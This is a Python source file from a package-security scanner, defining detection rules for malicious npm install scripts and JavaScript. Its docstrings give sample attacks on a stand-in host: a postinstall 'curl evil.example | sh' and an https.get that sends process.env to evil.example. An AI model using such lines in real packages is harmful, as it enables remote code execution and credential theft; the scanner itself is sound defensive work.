"""npm rules: lifecycle scripts and JavaScript behaviour."""

from __future__ import annotations

from outwork.analyzers.packages.rules.base import BehaviourRule, Variant
from outwork.core.rules import Confidence, Layer, Rule, Severity

C, H, M, L, N = (
    Severity.CRITICAL,
    Severity.HIGH,
    Severity.MEDIUM,
    Severity.LOW,
    Severity.INFO,
)


class NpmInstallScript(Rule):
    """A `package.json` lifecycle script runs code when the package is installed.

    ## What it finds
    `preinstall`, `install`, `postinstall` and `prepare` scripts. Scripts that download, pipe into
    a shell, run encoded commands or start `node` on a file that itself misbehaves are high or
    critical; `node-gyp rebuild` and similar build steps are low.

    ## Why it matters
    npm runs these scripts with the user's rights on `npm install`; they are the entry point of
    nearly every malicious npm package.

    ## Example
    ```json
    {"scripts": {"postinstall": "curl https://evil.example/x.sh | sh"}}
    ```

    ## Remediation
    Install with `--ignore-scripts` and review the script; do not install the package if the
    script fetches or hides code.

    ## References
    - npm docs, "scripts": lifecycle operation order
    - MITRE ATT&CK T1195.002 (Compromise Software Supply Chain)
    """

    code = "PKG014"
    name = "npm-install-script"
    layer = Layer.PKG
    severity = Severity.MEDIUM
    confidence = Confidence.MEDIUM
    cwe = (506, 829)
    attack = ("T1195.002", "T1059.007")
    inline_suppressible = False


class SuspiciousJavaScript(BehaviourRule):
    """JavaScript that executes commands, evaluates decoded code or exfiltrates host data.

    ## What it finds
    From the syntax tree (tree-sitter): `child_process` calls with dangerous commands, `eval`,
    `Function` and `vm` on decoded strings (`Buffer.from(x, "base64")`, `atob`), and flows of
    `process.env`, `os.hostname()`, `os.userInfo()` into `http`/`https` requests, `fetch` or DNS
    look-ups. Minified and packed code is parsed, not pattern-matched.

    ## Why it matters
    This is what malicious npm packages do in their install scripts and entry points.

    ## Example
    ```js
    https.get("https://evil.example/?d=" + Buffer.from(JSON.stringify(process.env)).toString("hex"))
    ```

    ## Remediation
    Do not install the package; rotate the credentials of the environments where it ran.

    ## References
    - MITRE ATT&CK T1059.007 (JavaScript), T1041 (Exfiltration Over C2 Channel)
    - CWE-506: Embedded Malicious Code
    """

    code = "PKG015"
    name = "suspicious-javascript"
    layer = Layer.PKG
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (506, 95)
    attack = ("T1059.007", "T1041")
    inline_suppressible = False

    #: install, import, in a function of a module loaded on import, only when called
    SHELL = Variant("child_process runs a downloader, shell or encoded command", C, C, C, M)
    NETWORK_COMMAND = Variant("child_process runs a command that reaches the network", H, H, H, L)
    WINDOWS_SHELL = Variant("child_process starts Windows' shell", H, M, M, L)
    PROGRAM = Variant("child_process starts a program", M, L, L, N)
    DECODED_LOADS = Variant("eval, Function or vm runs decoded code that loads modules", C, C, C, H)
    DECODED = Variant("eval, Function or vm runs decoded code", C, H, H, M)
    SENDS_DUMP = Variant(
        "sends the environment, host identity, or to a paste, webhook or raw address", C, C, C, L
    )
    SENDS_SECRET = Variant("sends a configured variable", C, C, M, L)
    SUSPICIOUS_ADDRESS = Variant("contacts a paste site, webhook or raw address", H, H, H, L)
